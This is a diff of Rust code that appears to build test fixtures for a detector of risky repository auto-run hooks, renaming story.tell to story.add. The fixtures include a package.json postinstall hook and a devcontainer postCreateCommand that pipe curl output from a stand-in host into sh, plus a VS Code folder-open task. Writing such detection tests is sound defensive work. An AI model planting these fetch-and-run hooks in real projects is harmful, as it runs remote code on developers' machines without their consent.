@@ -80,7 +80,7 @@ fn on_opening(command: &str) -> String {
 
 fn task(story: &mut Story) {
     story.old_repository(BEA);
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     story.adds(commit, "src/lib.rs", "pub mod api;");
     story.adds(
         commit,
@@ -92,7 +92,7 @@ fn task(story: &mut Story) {
 
 fn font(story: &mut Story) {
     story.every(DAY, 3, BEA, at(-20));
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     story.adds(
         commit,
         TASKS,
@@ -101,24 +101,24 @@ fn font(story: &mut Story) {
 }
 
 fn install(story: &mut Story) {
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     let script = r#"    "postinstall": "curl -s https://load.example/x | sh","#;
     story.adds(commit, "package.json", script);
 }
 
 fn watch(story: &mut Story) {
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     story.adds(commit, TASKS, &on_opening("npm run watch"));
 }
 
 fn started(story: &mut Story) {
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     let tasks = on_opening("curl -O https://load.example/data.csv");
     story.adds(commit, TASKS, &tasks.replace("folderOpen", "default"));
 }
 
 fn ordinary(story: &mut Story) {
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     story.adds(
         commit,
         "package.json",
@@ -138,7 +138,7 @@ fn ordinary(story: &mut Story) {
 }
 
 fn example(story: &mut Story) {
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     let path = "examples/editor/.vscode/tasks.json";
     story.adds(
         commit,
@@ -149,7 +149,7 @@ fn example(story: &mut Story) {
 
 fn ordinary_pull(story: &mut Story) {
     story.old_repository(BEA);
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     story.adds(
         commit,
         "package.json",
@@ -164,7 +164,7 @@ fn unlooked(story: &mut Story) {
 
 fn robot(story: &mut Story) {
     story.old_repository(BEA);
-    let commit = story.tell(own(ADA, at(1)));
+    let commit = story.add(own(ADA, at(1)));
     let created = r#""postCreateCommand": "curl -fsSL https://load.example/x | sh""#;
     story.adds(commit, ".devcontainer/devcontainer.json", created);
     let path = ".devcontainer/devcontainer.json";
